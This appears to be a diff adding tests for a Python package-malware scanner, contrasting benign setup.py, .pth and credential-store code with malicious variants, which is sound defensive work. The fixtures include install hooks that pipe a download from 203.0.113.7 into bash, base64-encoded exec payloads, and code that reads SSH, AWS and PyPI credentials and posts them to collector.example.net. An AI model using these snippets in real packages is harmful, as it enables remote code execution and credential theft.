@@ -1,0 +1,137 @@
+"""Issue 12, part 2 (second round): build scripts, opt-in startup hooks and a tool's own credential
+store stay low; the malicious technique beside each still reaches high. Every package here is a
+small synthetic snippet."""
+
+from scans.engine import scan_archive
+
+from .conftest import make_tgz
+
+LOW = ("clean", "low")
+BLOCKING = ("high", "critical")
+SETUP_HEAD = "from setuptools import setup\n"
+
+
+def scan(files: dict, rules, name: str = "widgetry", eco: str = "pypi"):
+    return scan_archive(make_tgz(files, root=f"{name}-1.0/"), rules, filename=f"{name}-1.0.tar.gz", ecosystem=eco,
+                        package_name=name)
+
+
+# --- a build script's ordinary capabilities ------------------------------------------------------
+
+BUILD_SCRIPT = SETUP_HEAD + (
+    "import os, sys, subprocess, platform\n\n"
+    "about = {}\n"
+    "with open(os.path.join(os.path.dirname(__file__), 'widgetry', 'about.py')) as f:\n"
+    "    exec(f.read(), about)\n\n"
+    "if sys.platform == 'win32':\n    libraries = ['ws2_32']\nelse:\n    libraries = ['m']\n"
+    "if os.name == 'nt' and os.environ.get('WIDGETRY_STATIC'):\n    libraries.append('static')\n"
+    "cflags = subprocess.check_output('pkg-config --cflags libwidget', shell=True).decode().split()\n"
+    "debug = 'DEBUG' in os.environ\n"
+    "setup(name='widgetry', version=about['__version__'])\n"
+)
+
+
+def test_a_build_script_reading_its_version_file_probing_the_platform_and_the_compiler_stays_low(rules):
+    result = scan({"setup.py": BUILD_SCRIPT, "widgetry/about.py": "__version__ = '1.0'\n",
+                   "widgetry/__init__.py": ""}, rules)
+    assert result.verdict in LOW
+
+
+def test_the_version_file_setup_py_executes_is_judged_as_install_time_code(rules):
+    payload = ("import base64\n__version__ = '1.0'\n"
+               "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))\n")
+    result = scan({"setup.py": BUILD_SCRIPT, "widgetry/about.py": payload, "widgetry/__init__.py": ""}, rules)
+    assert result.verdict in BLOCKING
+    assert any(f.file.endswith("widgetry/about.py") and f.points >= 25 for f in result.findings)
+
+
+def test_exec_of_a_downloaded_file_in_setup_py_is_not_a_version_file(rules):
+    setup = SETUP_HEAD + (
+        "import urllib.request, os\n"
+        "path = urllib.request.urlretrieve('http://203.0.113.7/v.py')[0]\n"
+        "with open(path) as f:\n    exec(f.read())\n"
+        "setup(name='widgetry')\n")
+    assert scan({"setup.py": setup}, rules).verdict in BLOCKING
+
+
+# --- install-command overrides: what pip really runs -------------------------------------------
+
+def test_handing_setuptools_its_own_classes_and_a_develop_hook_stays_low(rules):
+    setup = SETUP_HEAD + (
+        "from setuptools.command.install import install\nfrom setuptools.command.build_py import build_py\n"
+        "from setuptools.command.develop import develop\nimport shutil\n\n"
+        "class RegisterWidget(develop):\n    def run(self):\n        develop.run(self)\n"
+        "        shutil.copy('widgetry/static/index.js', 'share/jupyter/nbextensions/widgetry/')\n\n"
+        "setup(name='widgetry', cmdclass={'install': install, 'build_py': build_py, 'develop': RegisterWidget})\n")
+    assert scan({"setup.py": setup, "widgetry/__init__.py": ""}, rules).verdict in LOW
+
+
+def test_an_install_override_that_runs_a_download_still_blocks(rules):
+    setup = SETUP_HEAD + (
+        "from setuptools.command.install import install\nimport subprocess\n\n"
+        "class Post(install):\n    def run(self):\n        install.run(self)\n"
+        "        subprocess.call('curl -s http://203.0.113.7/i.sh | bash', shell=True)\n\n"
+        "setup(name='widgetry', cmdclass={'install': Post})\n")
+    assert scan({"setup.py": setup}, rules).verdict in BLOCKING
+
+
+# --- .pth startup hooks ----------------------------------------------------------------------
+
+def test_a_startup_hook_that_runs_only_when_an_environment_variable_opts_in_stays_low(rules):
+    pth = ("import os; exec('if os.environ.get(\"WIDGETRY_AUTO_START\"):\\n"
+           "    import widgetry.startup; widgetry.startup.install()')\n")
+    result = scan({"widgetry_startup.pth": pth, "widgetry/__init__.py": "", "widgetry/startup.py": "def install(): pass\n"},
+                  rules)
+    assert result.verdict in LOW
+
+
+def test_a_startup_hook_that_decodes_and_runs_a_payload_still_blocks(rules):
+    pth = ("import os, base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ==')) "
+           "if os.environ.get('HOME') else None\n")
+    assert scan({"widgetry_startup.pth": pth, "widgetry/__init__.py": ""}, rules).verdict in BLOCKING
+
+
+# --- a tool's own credential store ---------------------------------------------------------------
+
+def test_a_publishing_tool_reading_its_own_config_and_uploading_to_the_configured_server_stays_low(rules):
+    upload = ("import configparser, os, requests\n\nPYPIRC = os.path.expanduser('~/.pypirc')\n\n"
+              "def upload(path, repo_name):\n    cfg = configparser.ConfigParser()\n    cfg.read(PYPIRC)\n"
+              "    repo = cfg[repo_name]\n"
+              "    with open(path, 'rb') as fh:\n"
+              "        return requests.post(repo['repository'], files={'content': fh},\n"
+              "                             auth=(repo['username'], repo['password']))\n")
+    init = "import argparse\nparser = argparse.ArgumentParser()\n" \
+           "parser.add_argument('--pypirc', help='config file, default ~/.pypirc')\n"
+    result = scan({"widgetry/upload.py": upload, "widgetry/__init__.py": init}, rules)
+    assert "eng_combo_cred_network" not in result.rule_ids()
+    assert result.verdict in LOW
+
+
+def test_an_ssh_library_locating_its_default_keys_stays_low(rules):
+    config = ("from pathlib import Path\n\nclass Config:\n    def __init__(self):\n"
+              "        self.default_path = Path('~', '.ssh').expanduser()\n"
+              "        self.identity = Path('~/.ssh/id_ed25519').expanduser()\n")
+    result = scan({"widgetry/config.py": config, "widgetry/__init__.py": ""}, rules)
+    assert result.verdict in LOW
+
+
+def test_sweeping_several_credential_stores_and_sending_them_still_blocks(rules):
+    thief = ("import os, requests\n\ndef collect():\n"
+             "    out = {}\n"
+             "    for p in ('~/.ssh/id_rsa', '~/.aws/credentials', '~/.pypirc'):\n"
+             "        out[p] = open(os.path.expanduser(p)).read()\n"
+             "    requests.post('https://collector.example.net/k', json=out)\n\ncollect()\n")
+    result = scan({"widgetry/__init__.py": thief}, rules)
+    assert "eng_combo_cred_network" in result.rule_ids()
+    assert result.verdict in BLOCKING
+
+
+# --- prose: an escaped quote inside a docstring does not end it ---------------------------------
+
+def test_a_docstring_quoting_an_example_with_escaped_quotes_stays_prose(rules):
+    module = ('def forward(port):\n    """Expose a port.\n\n    ```python\n    def serve():\n'
+              '        \\"""Serve.\\"""\n    ```\n\n'
+              '    **SSH example:** this assumes you have a keypair in `~/.ssh/id_rsa`.\n    """\n'
+              '    return port\n')
+    result = scan({"widgetry/tunnel.py": module, "widgetry/__init__.py": ""}, rules)
+    assert all(f.points <= 2 for f in result.findings if f.rule_id != "eng_typosquat")
